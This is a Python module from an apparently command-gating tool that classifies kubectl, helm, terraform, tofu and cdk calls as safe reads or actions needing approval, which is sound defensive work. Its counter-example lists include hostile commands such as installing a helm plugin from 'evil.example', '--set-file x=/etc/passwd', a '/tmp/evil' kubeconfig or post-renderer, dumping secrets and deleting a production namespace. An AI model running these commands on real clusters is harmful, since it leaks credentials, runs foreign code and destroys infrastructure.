"""kubectl, helm, terraform and their kin: looking at a cluster is allowed, secrets and every change ask with their
consequences.

Credentials of a cluster are often fetched by a program named in the kubeconfig, so another kubeconfig is another
program.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from askfirst.knowledge.programs import DANGEROUS
from askfirst.model import Action, Fact, Kind, Word
from askfirst.shell.call import Analyst, Call, Outcome
from askfirst.shell.tools.engine import apply, call_after, facts_of, read_action, unknown
from askfirst.shell.tools.options import Parsed, parse
from askfirst.shell.tools.project_code import runner
from askfirst.shell.tools.table import INERT, Reading, Tool, as_shown, asked, looking

__all__ = ["TOOLS"]


# -- kubectl -----------------------------------------------------------------------------------------------------------

_KUBE_LOOKS = frozenset(
    "get describe logs explain top cluster-info "
    "api-resources api-versions version wait events options completion".split()
)
_KUBE_DEEPER = {
    ("auth", "can-i"),
    ("auth", "whoami"),
    ("rollout", "status"),
    ("rollout", "history"),
    ("config", "view"),
    ("config", "get-contexts"),
    ("config", "current-context"),
    ("config", "get-clusters"),
    ("config", "get-users"),
    ("plugin", "list"),
}
_KUBE_ASKS = """
    asks    --kubeconfig: uses another kubeconfig, which can name a program
    asks    -s,--server --as --as-group --token --username: uses another server or identity
    asks    --password --cluster --user: uses another server or identity
    asks    --insecure-skip-tls-verify --certificate-authority: weakens the connection
    asks    --client-key --client-certificate --tls-server-name: weakens the connection
    asks    --cache-dir --profile --profile-output --log-file --log-dir: writes elsewhere
    asks    -v,--v,--vmodule: shows what the server answers, secrets included
"""
_KUBE_GLOBAL = Tool(
    "kubectl",
    Kind.READ,
    "",
    options=_KUBE_ASKS
    + """
        flag    --warnings-as-errors --match-server-version -h,--help
        value   -n,--namespace --context --request-timeout
    """,
)
_KUBE_ROW = Tool(
    "kubectl",
    Kind.READ,
    "looks at the cluster",
    options=_KUBE_ASKS
    + """
        flag    -A,--all-namespaces -w --watch-only --show-labels --no-headers --ignore-not-found
        flag    --show-kind --show-managed-fields -R,--recursive -p,--previous --timestamps --prefix
        flag    --ignore-errors --all-pods --client --short --show-events --containers --list
        flag    -q,--quiet --minify --show-capacity --cached --warnings-as-errors
        flag    -h,--help --api-versions
        value   -n,--namespace --context -o,--output -l --selector --field-selector --sort-by --tail
        value   --since --since-time -c,--container --limit-bytes --max-log-requests --chunk-size
        value   -L,--label-columns --template --for --timeout --revision --verbs --categories
        value   --request-timeout --types --subresource --pod-running-timeout --sort
        value   --namespaced
        maybe   --all-containers --follow --watch --api-group
        reads   -f,--filename
        asks    -k,--kustomize: may fetch a repository with git
        asks    --raw: asks the server for any address
        asks    --flatten: shows keys and tokens
        asks    --output-directory: writes files
    """,
    operands=(INERT, ...),
)
_KUBE_LOGS = replace(
    _KUBE_ROW,
    options=_KUBE_ROW.options.replace("reads   -f,--filename", "flag    -f"),
)
_KUBE_DANGER = {
    "delete": "deletes resources of a cluster",
    "apply": "changes what runs in a cluster",
    "exec": "runs a command in a running container",
    "drain": "moves everything off a machine",
    "scale": "changes how many copies run",
    "rollout": "restarts or rolls back what runs",
    "cordon": "takes a machine out of use",
    "cp": "copies files into or out of a container",
    "port-forward": "opens a way into the cluster",
    "proxy": "opens the cluster's API on this machine",
    "edit": "changes a resource",
    "patch": "changes a resource",
    "replace": "replaces resources",
    "run": "starts a container in a cluster",
    "create": "makes resources in a cluster",
    "debug": "starts a container beside another",
    "taint": "changes where things may run",
}


def kubectl(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    parsed = parse(_KUBE_GLOBAL, call.words[1:], stop_at_operand=True)
    facts: list[Fact] = list(facts_of(_KUBE_GLOBAL, call, parsed, analyst))
    rest = call.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
    if not rest:
        return Outcome(read_action((tool.name, "--help"), "shows help"), tuple(facts))
    name, second = rest[0].value or "?", (rest[1].value if len(rest) > 1 else None)
    if len(rest) == 2 and second in ("--help", "-h"):
        return Outcome(read_action((tool.name, name, "--help"), "shows help"), tuple(facts))
    deeper = (name, second) in _KUBE_DEEPER
    if name in _KUBE_LOOKS or deeper:
        row = _KUBE_LOGS if name in ("logs", "top", "events") else _KUBE_ROW
        outcome = _looked(tool, row, rest, 2 if deeper else 1, call, analyst)
        return replace(outcome, facts=(*facts, *outcome.facts, *_secrets(name, parse(row, rest[1:]), rest, call)))
    if name in ("exec", "debug", "run", "attach"):
        facts.append(unknown("hidden command", "runs a command in a container", call))
    return Outcome(_kube_change(tool, name, rest), tuple(facts))


def _kube_change(tool: Tool, name: str, rest: tuple[Word, ...]) -> Action:
    if name == "diff":
        about, target = "shows what an `apply` would change", as_shown(rest[1:])
        return Action((tool.name, name), Kind.READ, rule=f"{tool.name} diff", description=about, target=target)
    danger = _KUBE_DANGER.get(name, "changes a cluster: it can stop or change what runs in production")
    kind = Kind.DESTRUCTIVE if name in ("delete", "drain") else Kind.NETWORK
    target = as_shown(rest[1:])
    return Action((tool.name, name), kind, rule=tool.name, danger=danger, description=danger, target=target)


def _looked(tool: Tool, row: Tool, rest: tuple[Word, ...], depth: int, call: Call, analyst: Analyst) -> Outcome:
    """A sub-command of `depth` words that only looks: its options are those of `row`."""
    outcome = apply(row, call_after(call, rest[depth:]), analyst)
    key = (tool.name, *(w.value or "" for w in rest[:depth]))
    return replace(outcome, action=replace(outcome.action, key=key, rule=" ".join(key)))


def _secrets(name: str, parsed: Parsed, rest: tuple[Word, ...], call: Call) -> list[Fact]:
    """What would be shown of secrets."""
    words = [w.shown.lower() for w in rest[1:]]
    why = ""
    if name == "config" and "view" in words and "--raw" in words:
        why = "shows the passwords of the kubeconfig"
    elif name == "describe" and any("secret" in w for w in words):
        why = "shows the tokens of service accounts"
    elif name == "get" and _shows_content(parsed):
        why = _secrets_in(words, parsed, rest)
    elif name == "cluster-info" and "dump" in words:
        why = "writes out everything that the cluster holds"
    why = why or _fetches_or_shows(words)
    return [unknown("secret", why, call)] if why else []


def _fetches_or_shows(words: list[str]) -> str:
    if any("://" in w for w in words):
        return "what is at an address is fetched"
    return (
        "a template file is shown as far as it holds no template"
        if any("-file" in w or "templatefile" in w for w in words)
        else ""
    )


def _secrets_in(words: list[str], parsed: Parsed, rest: tuple[Word, ...]) -> str:
    """`kubectl get secret NAME` lists names; with an output format it shows values. What is not known may be one."""
    if any("secret" in w for w in words) or any(w.value is None for w in rest[1:]):
        return "shows the content of secrets"
    if parsed.has("-f", "-k"):
        return "the file may name secrets, whose content would be shown"
    return ""


def _shows_content(parsed: Parsed) -> bool:
    """Whether an output format other than the tables is asked for."""
    return parsed.has("--template", "--raw") or any(
        (w.value or "").removeprefix("=") not in ("wide", "name") for w in parsed.values("-o")
    )


# -- helm --------------------------------------------------------------------------------------------------------------

_HELM_ASKS = """
    asks    --kubeconfig: uses another kubeconfig, which can name a program
    asks    --kube-apiserver --kube-token --kube-as-user: uses another server or identity
    asks    --kube-as-group --kube-ca-file: uses another server or identity
    asks    --kube-insecure-skip-tls-verify: uses another server or identity
    asks    --kube-tls-server-name: uses another server or identity
    asks    --post-renderer --post-renderer-args: runs a program
    asks    --output-dir: writes files
    asks    --registry-config --repository-cache --repository-config: uses other settings
    asks    --ca-file --cert-file --key-file --insecure-skip-tls-verify: weakens the connection
    asks    --username --password --pass-credentials: weakens the connection
    asks    --repo: fetches from another repository
"""
_HELM_FLAGS = """
    flag    -A,--all-namespaces -a,--all --deployed --failed --pending --superseded
    flag    --uninstalled --uninstalling --debug -q --short --strict --with-subcharts --quiet -l
    flag    --versions --devel --include-crds --skip-crds --no-hooks --validate --is-upgrade
    flag    --skip-tests --create-namespace -h,--help --client --show-resources --show-desc
    flag    --reverse -d,--date --no-headers --regexp --wait --atomic --install -i
    flag    --generate-name -g --reset-values --reuse-values
"""
_HELM_VALUES = """
    value   -n,--namespace --kube-context -o,--output --filter --max -m --offset --set
    value   --set-string --set-json --set-literal --version --kube-version --api-versions
    value   --revision --max-col-width --time-format -s,--show-only --name-template --timeout
    value   --template --selector --burst-limit --qps --description
"""
_HELM_ROW = Tool(
    "helm",
    Kind.READ,
    "looks at releases and charts",
    profile="infra-read",
    options=_HELM_FLAGS
    + _HELM_VALUES
    + _HELM_ASKS
    + """
        maybe   --dry-run
        reads   -f,--values --keyring
        asks    --set-file: puts any file into what is shown
    """,
    operands=(INERT, ...),
)
_HELM_LOOKS = frozenset(
    "version help list ls status history hist lint template search show inspect verify completion".split()
)
_HELM_CHANGES = ("install", "upgrade", "rollback", "uninstall")
_HELM_DEEPER = {
    *(("get", what) for what in (None, "notes", "values", "metadata")),
    ("repo", "list"),
    ("repo", "ls"),
    ("dependency", "list"),
    ("dependency", "ls"),
    ("dep", "list"),
    ("dep", "ls"),
    ("plugin", "list"),
    ("plugin", "ls"),
    ("plugin", "verify"),
}


def helm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    parsed = parse(_HELM_ROW, call.words[1:], stop_at_operand=True)
    facts: list[Fact] = list(facts_of(_HELM_ROW, call, parsed, analyst))
    rest = call.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
    if not rest:
        plain = not facts and all((w.value or "") in ("--help", "-h", "--version") for w in call.words[1:])
        return Outcome(replace(read_action((tool.name, "--help"), "shows help"), allowed=plain), tuple(facts))
    name, second = rest[0].value or "?", (rest[1].value if len(rest) > 1 else None)
    deeper = (name, second) in _HELM_DEEPER
    if name in _HELM_LOOKS or deeper or _is_rehearsal(name, rest):
        outcome = _looked(tool, _HELM_ROW, rest, 2 if deeper else 1, call, analyst)
        return replace(outcome, facts=(*facts, *_fetched(rest[1:], call), *outcome.facts))
    danger = "changes what runs in a cluster" if name in (*_HELM_CHANGES, "delete", "test") else ""
    return Outcome(
        Action(
            (tool.name, name),
            Kind.NETWORK,
            rule=tool.name,
            danger=danger,
            description=danger or "fetches, writes or publishes charts",
            target=as_shown(rest[1:]),
        ),
        tuple(facts),
    )


def _fetched(words: tuple[Word, ...], call: Call) -> list[Fact]:
    addresses = [w for w in words if "://" in (w.value or w.text)]
    return [unknown("network", f"`{w.text}` is fetched from anywhere", call, w.text) for w in addresses]


def _is_rehearsal(name: str, rest: tuple[Word, ...]) -> bool:
    """`helm install --dry-run`, which prints what would be changed. `=false` changes it, the last one counts, and what
    is the value of another option is none."""
    given = [g for g in parse(_HELM_ROW, rest).given if g.name == "--dry-run"]
    return name in _HELM_CHANGES and bool(given) and all(g.value is None or g.value.value in _REHEARSES for g in given)


_REHEARSES = ("true", "client", "server")


# -- terraform ---------------------------------------------------------------------------------------------------------

_TF_ASKS = """
    asks    -chdir: works elsewhere
    asks    -plugin-dir: loads other programs
    asks    -out -generate-config-out -state-out -backup: writes a file
    asks    -backend-config: uses another store
    asks    -cloud-run: runs elsewhere
"""
_TF_OPTIONS = (
    _TF_ASKS
    + """
        flag    -json -no-color -help
        value   -lock -lock-timeout -parallelism -input -compact-warnings
        reads   -var-file -state
    """
)


def _tf(program: str, name: str, description: str, *, kind: Kind = Kind.READ, options: str = "", **more: Any) -> Tool:
    return Tool(
        f"{program} {name}",
        kind,
        description,
        profile=more.pop("profile", "infra-read"),
        special=more.pop("special", _tf_row),
        key_words=len(name.split()) + 1,
        options=_TF_OPTIONS + options,
        operands=more.pop("operands", (INERT, ...)),
        reading=Reading(single_dash_long=True),
        **more,
    )


def _tf_row(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    return runner(tool, call, analyst)


def _tf_providers(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    outcome = _tf_row(tool, call, analyst)
    odd = [w for w in call.words[1:] if not (w.value or "?").startswith("-") and w.value != "schema"]
    return replace(
        outcome,
        facts=(*outcome.facts, *(unknown("operands", "writes files or the lock file", call, w.text) for w in odd)),
    )


def _tf_output(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
    """Without a format, sensitive values are hidden; `-json` shows them all, `-raw` the one that is named."""
    outcome = _tf_row(tool, call, analyst)
    if any((w.value or "-json").lstrip("-").partition("=")[0] == "json" for w in call.words[1:]):
        outcome = replace(outcome, facts=(*outcome.facts, unknown("secret", "shows sensitive values", call)))
    # One that is named is shown in clear, whether it is sensitive or not.
    named = parse(tool, call.words[1:]).operands if tool.name.endswith("output") else ()
    secret = [w for w in named if (w.value or "").lower().rpartition("_")[2] not in _PLAIN_OUTPUTS]
    return replace(
        outcome, facts=(*outcome.facts, *(unknown("secret", "may show a secret", call, w.text) for w in secret))
    )


# How the names of outputs end that say where something is and hold no secret.
_PLAIN_OUTPUTS = frozenset(
    """
    id ids arn arns name names ip ips region regions zone zones hostname port ports cidr bucket version dns vpc subnet
    subnets
    """.split()
)


def _terraform(program: str, manual: str = "") -> Tool:
    danger = "changes infrastructure: it can create, replace or destroy what other people depend on"
    asking = {
        name: asked(
            f"{program} {name}",
            what,
            Kind.NETWORK,
            danger=danger
            if name in ("apply", "destroy", "import", "taint", "untaint", "force-unlock", "refresh")
            else "",
            key_words=2,
        )
        for name, what in {
            "apply": "changes infrastructure",
            "destroy": "destroys infrastructure",
            "init": "fetches and installs providers",
            "import": "takes a resource over",
            "taint": "marks a resource for replacement",
            "untaint": "unmarks a resource",
            "force-unlock": "removes a lock",
            "refresh": "changes the recorded state",
            "console": "evaluates expressions, which can read any file",
            "login": "stores a token",
            "logout": "forgets a token",
            "test": "creates and destroys real resources",
        }.items()
    }
    return Tool(
        program,
        Kind.READ,
        "infrastructure as code",
        danger=danger,
        options=_TF_ASKS + "flag -version -help -v -h",
        reading=Reading(single_dash_long=True),
        key_words=2,
        examples=(f"{program} version", f"{program} validate", f"{program} plan -target=x.y", f"{program} fmt -check"),
        counter_examples=(
            f"{program} apply",
            f"{program} plan -var-file=/tmp/x -out=/etc/x",
            f"{program} plan -out=x",
            f"{program} init",
            f"{program} -chdir=/tmp/x plan",
            f"{program} console",
            f"{program} state rm x",
        ),
        manual=manual,
        subcommands={
            **asking,
            "version": looking(
                f"{program} version",
                "shows the version",
                options="flag -json",
                operands=(),
                reading=Reading(single_dash_long=True),
            ),
            "plan": _tf(
                program,
                "plan",
                "shows what would change; providers and external data sources run",
                kind=Kind.BUILD,
                options="""
                    flag    -destroy -refresh-only -detailed-exitcode -compact-warnings
                    value   -target -var -refresh -replace -exclude
                """,
                operands=(),
            ),
            "validate": _tf(
                program,
                "validate",
                "checks the files; providers run",
                kind=Kind.BUILD,
                options="flag -no-tests",
                operands=(),
            ),
            "show": _tf(program, "show", "shows a plan or the state", special=_tf_output),
            "output": _tf(
                program,
                "output",
                "shows outputs",
                options="flag -raw",
                examples=(f"{program} output", f"{program} output vpc_id"),
                counter_examples=(f"{program} output -raw db_password", f"{program} output dsn"),
                special=_tf_output,
            ),
            "fmt": _tf(
                program,
                "fmt",
                "formats the files",
                kind=Kind.EDIT,
                options="""
                    flag    -check -recursive -diff
                    value   -write -list
                """,
            ),
            "graph": _tf(
                program,
                "graph",
                "shows dependencies",
                options="""
                    flag    -draw-cycles
                    value   -type -plan
                """,
                operands=(),
            ),
            "modules": _tf(program, "modules", "lists modules", operands=()),
            "providers": _tf(
                program,
                "providers",
                "lists providers",
                operands=(INERT,),
                examples=(f"{program} providers schema -json",),
                counter_examples=(f"{program} providers lock", f"{program} providers mirror x"),
                special=_tf_providers,
            ),
            "state": Tool(
                f"{program} state",
                Kind.READ,
                "the state",
                key_words=2,
                subcommands={
                    "list": _tf(program, "state list", "lists resources", options="value -id"),
                    "show": _tf(program, "state show", "shows a resource"),
                },
            ),
            "workspace": Tool(
                f"{program} workspace",
                Kind.READ,
                "workspaces",
                key_words=2,
                subcommands={
                    "list": _tf(program, "workspace list", "lists workspaces"),
                    "show": _tf(program, "workspace show", "names the workspace", operands=()),
                },
            ),
            "metadata": Tool(
                f"{program} metadata",
                Kind.READ,
                "descriptions",
                key_words=2,
                subcommands={"functions": _tf(program, "metadata functions", "lists functions", operands=())},
            ),
        },
    )


def _danger(name: str, danger: str, looks: dict[str, str], *, options: str = "", **more: Any) -> Tool:
    """A tool whose looking sub-commands are few, and whose others are dangerous."""
    return Tool(
        name,
        Kind.NETWORK,
        danger,
        danger=danger,
        options="flag -v -h,--help\n" + options,
        key_words=2,
        subcommands={
            word: looking(f"{name} {word}", what, profile=more.get("profile", "infra-read"), options=options)
            for word, what in looks.items()
        }
        | ({"diff": asked(f"{name} diff", "shows what a deployment would change", Kind.READ)} if name == "cdk" else {}),
        **{key: value for key, value in more.items() if key != "profile"},
    )


def _asks(name: str, danger: str) -> Tool:
    """`danger`: only of what is in no list of dangerous programs, where looking at something is told apart."""
    return asked(name, danger, Kind.NETWORK, danger="" if name in DANGEROUS else danger, key_words=2)


TOOLS: dict[str, Tool] = {
    **{
        name: Tool(
            name,
            Kind.READ,
            "clusters",
            manual="kubectl 1.32.4",
            special=kubectl,
            key_words=2,
            examples=(
                f"{name} get pods -n staging -o wide",
                f"{name} describe pod web-0",
                f"{name} logs --tail 10 web",
                f"{name} explain deployment.spec",
                f"{name} get secret",
                f"{name} get pods -o jsonpath='{{.items}}'",
            ),
            counter_examples=(
                f"{name} --kubeconfig /tmp/evil get pods",
                f"{name} delete ns prod",
                f"{name} get secret db -o yaml",
                f"{name} apply -f x",
                f"{name} exec web -- sh",
                f"{name} cp a:/x b",
                f"{name} get --raw /x",
                f"{name} config view --raw",
                f"{name} config view --flatten",
                f"{name} cluster-info dump",
                f"{name} -s https://e.example get pods",
                f"{name} get -k https://e.example/x",
                f"{name} get -f https://e.example/x",
                f"{name} get secret -Aoyaml",
                f"{name} get secret db -o name -o yaml",
                f"{name} describe secret default-token-x",
            ),
        )
        for name in ("kubectl",)
    },
    "helm": Tool(
        "helm",
        Kind.READ,
        "charts and releases",
        special=helm,
        key_words=2,
        manual="helm.sh/docs/helm, 3.19 of 2025-09-11",
        examples=(
            "helm list -A",
            "helm lint charts/app",
            "helm template charts/app",
            "helm get notes x",
            "helm install x y --dry-run",
        ),
        counter_examples=(
            "helm template x . --post-renderer /tmp/evil",
            "helm plugin install https://evil.example/p",
            "helm install x y",
            "helm template . --output-dir /etc",
            "helm --kubeconfig /tmp/x list",
            "helm install x y --dry-run=none",
            "helm get manifest x",
            "helm env",
            "helm template . --set-file x=/etc/passwd",
            "helm install x y --dry-run=false",
            "helm upgrade x y --description --dry-run",
            "helm get values notes",
            "helm status x -o json",
        ),
    ),
    "terraform": _terraform("terraform", manual="Terraform 1.11.4"),
    "tofu": _terraform("tofu", manual="opentofu.org/docs/cli/commands, 1.6 to 1.12"),
    # Not held against anything, and asked for by nobody: they only warn.
    **{
        name: _asks(name, danger)
        for name, danger in {
            "terragrunt": "acts on infrastructure",
            "pulumi": "acts on infrastructure",
            "packer": "builds machine images",
            "kustomize": "builds manifests, which can run programs",
            "oc": "acts on a cluster",
            "k3s-kubectl": "changes a cluster",
            "k9s": "acts on a cluster",
            "argocd": "acts on what runs in a cluster",
            "istioctl": "acts on a cluster's network",
            "eksctl": "acts on clusters",
            "flux": "acts on what runs in a cluster",
            "talosctl": "changes machines of a cluster",
        }.items()
    },
    "cdk": _danger(
        "cdk",
        "changes cloud resources",
        {
            "synth": "builds templates, by running the app",
            "synthesize": "builds templates, by running the app",
            "ls": "lists stacks, by running the app",
            "list": "lists stacks, by running the app",
            "context": "shows cached values",
        },
        # The app is the project's own code.
        profile="node-dev python-dev go-dev jvm-dev dotnet-dev",
        options="flag -j,--json -q,--quiet --all -l,--long --version",
        manual="cdk 3.0.0",
        examples=("cdk synth --quiet", "cdk ls", "cdk --version"),
        counter_examples=(
            "cdk synth --app 'touch x'",
            "cdk synth -o /tmp/x",
            "cdk deploy",
            "cdk context --clear",
            "cdk doctor",
            "cdk docs",
        ),
    ),
}
